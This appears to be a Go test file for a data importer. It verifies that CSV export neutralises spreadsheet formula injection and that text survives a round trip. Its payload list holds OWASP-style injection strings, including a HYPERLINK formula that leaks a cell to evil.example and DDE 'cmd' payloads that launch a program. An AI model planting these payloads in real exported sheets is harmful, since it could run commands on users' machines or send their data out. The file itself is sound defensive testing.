package importer

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"regexp"
	"strings"
	"testing"

	"github.com/dipgraph/dipgraph/data/export"
	"github.com/dipgraph/dipgraph/graph"
	"github.com/dipgraph/dipgraph/graph/graphtest"
)

// formulaPayloads are texts a spreadsheet would run as formulas (OWASP's
// CSV injection examples and their relatives), texts that only look like
// them, and texts whose edges are characters a trim would drop.
var formulaPayloads = []string{
	`=HYPERLINK("http://evil.example/?leak="&A1,"Click")`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`=1+1`, "\t=1+1", "\r=1+1", `=`, `@`, `+x`, `-x`, `--`, `-=1`, `@@`,
	`'=1+1`, `''=1+1`, `'''@x`, `'`, `''`, `'quoted'`, `it's`,
	`-`, `+`, `-5`, `+2.5`, `-1e3`, `-.5`, `1-2`, `=A1; =B2`,
	"\tleading tab", "trailing tab\t", "\vvertical tab\f", "\u00a0no-break space\u00a0", "\u2028line separator",
	"line one\nline two", "=cmd\n=cmd", "'\t", "\t", "a\tb",
}

// hostile is a dataset with each payload in every text field a sheet has.
func hostile() *graph.Dataset {
	ds := &graph.Dataset{ID: "hostile", Title: formulaPayloads[0], Description: formulaPayloads[1],
		Sources: []graph.Source{{ID: "s", Title: "Source"}},
		Types:   []graph.Type{{ID: "summit", Label: "Meeting", Sign: graph.Neutral, Weight: 2}}}
	for i, p := range formulaPayloads {
		id := fmt.Sprintf("e%d", i)
		ds.Entities = append(ds.Entities, graph.Entity{ID: id, Kind: graph.KindCountry, Name: p, Native: p, Aliases: []string{p, "x" + p}, Note: p})
		ds.Sources = append(ds.Sources, graph.Source{ID: "s" + id, Title: p, Publisher: p, Author: p, Note: p})
		ds.Types = append(ds.Types, graph.Type{ID: "t" + id, Label: p, Sign: graph.Negative, Weight: 1})
		ds.Entities = append(ds.Entities, graph.Entity{ID: "l" + id, Kind: graph.KindLeader, Name: "Leader " + id, Country: id,
			Roles: []graph.Role{{Title: p, Start: graph.MustDate("2001")}}})
	}
	for i, p := range formulaPayloads {
		ds.Records = append(ds.Records, graph.Record{ID: fmt.Sprintf("r%d", i), Type: "summit", Parties: []string{"e0", fmt.Sprintf("e%d", max(i, 1))},
			Start: graph.MustDate("2020"), Label: p, Note: p, Cite: p, Source: "se" + fmt.Sprint(i)})
	}
	return ds
}

// looksLikeFormula is the test's own statement of what a spreadsheet runs:
// a cell starting with = + - @ TAB or CR, unless it is a number or a lone
// sign.
var looksLikeFormula = regexp.MustCompile(`^[=+\-@\t\r]`)
var number = regexp.MustCompile(`^[+-]?([0-9]+\.?[0-9]*|\.[0-9]+)([eE][+-]?[0-9]+)?$`)

// TestCSVFormulaInjection: no cell of the sheets export writes for a
// hostile dataset starts like a formula, and import reads every text back
// exactly, edges included.
func TestCSVFormulaInjection(t *testing.T) {
	ds := loaded(t, hostile())
	sheets, err := export.CSV(ds, false)
	if err != nil {
		t.Fatal(err)
	}
	guarded := 0
	for name, b := range sheets {
		r := csv.NewReader(bytes.NewReader(b))
		r.FieldsPerRecord = -1
		rows, err := r.ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		for i, row := range rows {
			for j, cell := range row {
				if looksLikeFormula.MatchString(cell) && !number.MatchString(cell) && cell != "-" && cell != "+" {
					t.Errorf("%s.csv row %d column %d starts like a formula: %q", name, i+1, j+1, cell)
				}
				if strings.HasPrefix(cell, "'") {
					guarded++
				}
			}
		}
	}
	if guarded < 100 {
		t.Errorf("only %d cells start with the quote; the hostile dataset should need over 100", guarded)
	}
	var files []File
	for _, s := range []string{"relations", "entities", "types", "sources", "dataset"} {
		files = append(files, File{Name: s + ".csv", R: bytes.NewReader(sheets[s])})
	}
	res, err := Import("csv", files, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if res.NSkipped > 0 || len(res.Warnings) > 0 {
		t.Fatalf("skipped %v, warnings %v", res.Skipped, res.Warnings)
	}
	back := loaded(t, res.Dataset)
	if !graphtest.SameModel(back, ds) {
		for i := range ds.Entities {
			if i < len(back.Entities) && fmt.Sprint(back.Entities[i]) != fmt.Sprint(ds.Entities[i]) {
				t.Errorf("entity %d: got %q, want %q", i, fmt.Sprintf("%+v", back.Entities[i]), fmt.Sprintf("%+v", ds.Entities[i]))
			}
		}
		for i := range ds.Records {
			if i < len(back.Records) && fmt.Sprint(back.Records[i]) != fmt.Sprint(ds.Records[i]) {
				t.Errorf("record %d: got %q, want %q", i, fmt.Sprintf("%+v", back.Records[i]), fmt.Sprintf("%+v", ds.Records[i]))
			}
		}
		t.Errorf("the round trip changed the model")
	}
}
